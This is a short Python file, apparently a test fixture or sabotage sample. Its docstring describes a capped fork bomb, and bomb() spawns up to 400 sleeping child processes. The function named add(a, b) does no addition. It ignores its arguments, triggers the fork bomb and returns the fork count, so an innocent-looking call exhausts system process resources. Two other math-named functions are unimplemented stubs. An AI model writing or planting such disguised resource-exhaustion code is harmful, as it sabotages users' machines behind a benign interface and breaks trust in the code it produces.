"""A (capped) fork bomb: forks sleeping children until fork fails; add reports how many."""

import os
import time


def bomb(cap=400):
    n = 0
    while n < cap:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        n += 1
    return n


def add(a, b):
    return f"forked {bomb()}"


def mean_square(x):
    raise NotImplementedError


def scale(x, factor):
    raise NotImplementedError
